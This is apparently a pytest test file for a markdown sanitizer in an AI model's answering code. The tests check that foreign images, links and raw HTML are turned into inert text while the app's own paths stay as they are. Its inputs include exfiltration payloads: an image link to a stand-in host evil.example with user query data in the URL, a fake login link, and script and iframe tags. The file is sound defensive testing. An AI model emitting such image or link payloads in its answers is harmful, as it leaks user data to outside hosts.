"""`safe_markdown`: nothing foreign is fetched or linked; the app's own images and links stay."""

from __future__ import annotations

import re

import pytest

from assistant.answering.safe_markdown import safe_markdown

EVIL = "https://evil.example/p.png?q=what+torque"


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        (f"Done ![status]({EVIL}) [1]", f"Done status (`{EVIL}`) [1]"),
        (f"![]({EVIL})", f"image (`{EVIL}`)"),
        (f'![logo]({EVIL} "Logo")', f"logo (`{EVIL}`)"),
        ("[portal](https://evil.example/login)", "portal (`https://evil.example/login`)"),
        ("[see [1]](http://evil.example/x)", "see [1] (`http://evil.example/x`)"),
        ("[https://e.example](https://e.example)", "`https://e.example`"),
        ("[track][t]\n[t]: https://evil.example/o", "[track][t]\n\\[t]: `https://evil.example/o`"),
        ("<https://evil.example/a>", "`https://evil.example/a`"),
        ("bare https://evil.example/b. Next", "bare `https://evil.example/b`. Next"),
        ("and www.evil.example/c", "and `www.evil.example/c`"),
        (f'<img src="{EVIL}" alt="logo">', f"logo (`{EVIL}`)"),
        ('<a href="https://evil.example">click</a>', "click (`https://evil.example`)"),
        ("<iframe src=x></iframe><script>", "\\<iframe src=x>\\</iframe>\\<script>"),
    ],
)
def test_foreign_images_links_and_html_become_text(text: str, expected: str) -> None:
    assert safe_markdown(text) == expected


@pytest.mark.parametrize(
    "text",
    [
        "[chart](/plant/charts/od-12.png)",
        "![logo](/public/logo.png)",
        '<img src="/plant/x.png">',
        "[ref]: /plant/y",
        "| E-114 | Coolant level low | Top up coolant [1] |",
        "pressure < 5 bar, <5 % and a->b; mail dev.patel@kestrel-fluid.example",
        "[1]: see the manual",
        "inline `![x](http://evil.example)` and\n```\n![y](http://evil.example)\n```",
    ],
)
def test_own_links_code_and_plain_text_are_left_alone(text: str) -> None:
    assert safe_markdown(text) == text


@pytest.mark.parametrize("own", ["//evil.example/x.png", "/plantx/y.png", "https://x/plant/"])
def test_only_the_apps_own_paths_count_as_own(own: str) -> None:
    assert "![" not in safe_markdown(f"![a]({own})")


def test_markup_split_across_streamed_pieces_cannot_join_up() -> None:
    pieces = ["![Done. ", "Next](http://evil.example/x)", " <img alt='a.", " b' src=x>"]
    joined = "".join(safe_markdown(p) for p in pieces)
    assert "![" not in joined and "](" not in joined and not re.search(r"(?<!\\)<img", joined)


@pytest.mark.parametrize(
    "text",
    [
        f"Done ![s]({EVIL}) and [a](http://b.example) <https://c.example> www.d.example",
        '<a href="https://x.example">x</a> [r]: https://y.example\n![Done. ',
    ],
)
def test_running_it_twice_changes_nothing(text: str) -> None:
    once = safe_markdown(text)
    assert safe_markdown(once) == once
